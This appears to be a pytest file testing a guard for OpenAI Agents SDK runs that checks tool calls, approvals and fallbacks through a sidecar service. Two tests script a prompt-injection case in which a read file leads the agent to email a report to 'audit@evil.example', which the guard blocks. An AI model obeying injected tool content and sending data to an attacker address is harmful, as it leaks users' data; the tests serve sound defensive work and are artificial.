"""`MageGuard` on real OpenAI Agents SDK runs, driven by the SDK's scripted model, checked by a
real sidecar."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("agents")

import agent_tools
from agent_tools import IBAN, RAN
from agents import Agent, Runner, RunResult, function_tool, set_tracing_disabled
from agents.items import ToolCallOutputItem
from agents.testing import ScriptedModel, assistant_message, function_call

from mage.client import AsyncMageClient, MageClient, Verdict, WriterOptions
from mage.client.integrations.openai_agents import MageGuard

set_tracing_disabled(True)  # the SDK would otherwise export its traces to OpenAI


read_file = function_tool(agent_tools.read_file)
read_inbox = function_tool(agent_tools.read_inbox)
send_email = function_tool(agent_tools.send_email)
bank_transfer = function_tool(agent_tools.bank_transfer)


def scripted(*calls: tuple[str, str, dict[str, str]]) -> ScriptedModel:
    """One model turn per call, then a final answer."""
    steps: list[Any] = [[function_call(name, args, call_id=cid)] for name, cid, args in calls]
    return ScriptedModel([*steps, [assistant_message("done")]])


def guarded(mage: MageClient | AsyncMageClient, session: str, model: ScriptedModel,
            final_output: bool = True) -> tuple[MageGuard, Agent[Any]]:
    guard = MageGuard(mage, session=session, read_only=["read_file", "read_inbox"],
                      retrieved=["read_inbox"], final_output=final_output, flush_timeout=0.5)
    agent = Agent(name="assistant", model=model,
                  tools=[read_file, read_inbox, send_email, bank_transfer])
    return guard, guard.agent(agent)


def run(guard: MageGuard, agent: Agent[Any], given: Any) -> RunResult:
    return asyncio.run(Runner.run(agent, given, run_config=guard.run_config(),
                                  hooks=guard.hooks))


def output_of(result: RunResult, call_id: str) -> str:
    [out] = [i for i in result.new_items
             if isinstance(i, ToolCallOutputItem) and i.raw_item["call_id"] == call_id]
    return str(out.output)


@pytest.fixture
def mage(sidecar: Any) -> Iterator[MageClient]:
    RAN.clear()
    with MageClient(sidecar.target) as client:
        yield client


def test_injected_tool_result_then_harmful_call_is_blocked(mage: MageClient) -> None:
    """The file's injected instruction reaches MAGE as a tool memory, so the send it asks for
    is answered with the reason as the tool's output, which the model sees; it never runs."""
    model = scripted(("read_file", "c1", {"path": "market.txt"}),
                     ("send_email", "c2", {"to": "audit@evil.example", "body": "report"}))
    # The final answer rests on the injected file too; whether it halts is not this test's.
    guard, agent = guarded(mage, "inj", model, final_output=False)
    result = run(guard, agent, "Summarise market.txt and email it to cfo@acme.example")

    assert output_of(result, "c2").startswith("Blocked by MAGE: HALT")
    assert "Blocked by MAGE: HALT" in str(model.last_call.input if model.last_call else "")
    assert RAN == ["read_file market.txt"]


def test_a_clean_run_is_untouched(mage: MageClient) -> None:
    """Calls MAGE lets through run as they would without it, the final answer is checked and
    passes, and the user's request, the model's calls and the tools' results are memories."""
    model = scripted(("read_file", "c1", {"path": "notes.txt"}),
                     ("send_email", "c2", {"to": "ann@acme.example", "body": "EMEA 4.2M"}))
    guard, agent = guarded(mage, "clean", model)
    result = run(guard, agent, "Email the notes.txt figures to ann@acme.example")

    assert (result.final_output, output_of(result, "c2")) == ("done", "sent to ann@acme.example")
    assert RAN == ["read_file notes.txt", "send_email ann@acme.example"]
    page, _ = mage.list_decisions(session="clean")
    assert sorted((d.tool, d.verdict) for d in page) == [
        ("read_file", Verdict.PROCEED), ("respond", Verdict.PROCEED),
        ("send_email", Verdict.PROCEED)]
    final = mage.get_decision(next(d.decision_id for d in page if d.tool == "respond"))
    seen = {m["entry"].content for m in final["memories"]}
    assert {"Q1 revenue EMEA 4.2M, APAC 3.1M.", "Email the notes.txt figures to ann@acme.example",
            'calls send_email({"to":"ann@acme.example","body":"EMEA 4.2M"})'} <= seen


@pytest.mark.parametrize("approved", [True, False])
def test_confirm_with_a_person_interrupts_and_decides_once(mage: MageClient,
                                                           approved: bool) -> None:
    """A REDIRECT to confirm makes the call need approval; the run stops with an interruption,
    `answer` approves or rejects it through RunState, and the call is checked only once."""
    model = scripted(("read_inbox", "c1", {}),
                     ("bank_transfer", "c2", {"to_account": IBAN, "amount": "1200"}))
    guard, agent = guarded(mage, f"pay-{approved}", model)
    paused = run(guard, agent, "Pay the Lumen invoice")

    [item] = paused.interruptions
    assert item.tool_name == "bank_transfer" and RAN == ["read_inbox"]
    assert guard.question(item).startswith(f"Allow bank_transfer(to_account='{IBAN}'")
    state = paused.to_state()
    guard.answer(state, item, approved, note="" if approved else "not this account")
    result = run(guard, agent, state)

    if approved:
        assert RAN[-1] == f"bank_transfer {IBAN}"
    else:
        assert output_of(result, "c2").startswith("Declined (not this account)")
        assert RAN == ["read_inbox"]
    page, _ = mage.list_decisions(session=f"pay-{approved}")
    calls = sorted((d.tool, d.verdict) for d in page if d.tool != "respond")
    assert calls == [("bank_transfer", Verdict.REDIRECT), ("read_inbox", Verdict.PROCEED)]


def test_sidecar_down_applies_the_client_fallback(tmp_path: Path) -> None:
    """With no sidecar the client's fallback decides in the SDK's terms: a read runs (WARN),
    a write is rejected with the reason, and the final answer's HALT trips the guardrail."""
    RAN.clear()
    quick = WriterOptions(close_timeout_s=0.2)
    model = scripted(("read_file", "c1", {"path": "notes.txt"}),
                     ("send_email", "c2", {"to": "ann@acme.example", "body": "hi"}))
    with MageClient(f"unix://{tmp_path}/absent.sock", check_timeout=1,
                    writer_options=quick) as down:
        guard, agent = guarded(down, "down", model)
        with pytest.raises(Exception, match="Guardrail") as tripped:
            run(guard, agent, "Email ann the notes")
    result = tripped.value.run_data  # type: ignore[attr-defined]
    assert "sidecar unreachable" in output_of(result, "c2")  # type: ignore[arg-type]
    assert RAN == ["read_file notes.txt"]


def test_async_client_and_strict_mode(sidecar: Any) -> None:
    """With an AsyncMageClient and `strict=True`, a halted call stops the run with the SDK's
    tool guardrail tripwire instead of answering the model."""
    from agents.exceptions import ToolInputGuardrailTripwireTriggered

    RAN.clear()
    model = scripted(("read_file", "c1", {"path": "market.txt"}),
                     ("send_email", "c2", {"to": "audit@evil.example", "body": "x"}))

    async def go() -> None:
        async with AsyncMageClient(sidecar.target) as mage:
            guard = MageGuard(mage, session="strict", read_only=["read_file"], strict=True,
                              flush_timeout=0.5)
            agent = guard.agent(Agent(name="a", model=model, tools=[read_file, send_email]))
            await Runner.run(agent, "Summarise market.txt", run_config=guard.run_config(),
                             hooks=guard.hooks)

    with pytest.raises(ToolInputGuardrailTripwireTriggered):
        asyncio.run(go())
    assert RAN == ["read_file market.txt"]
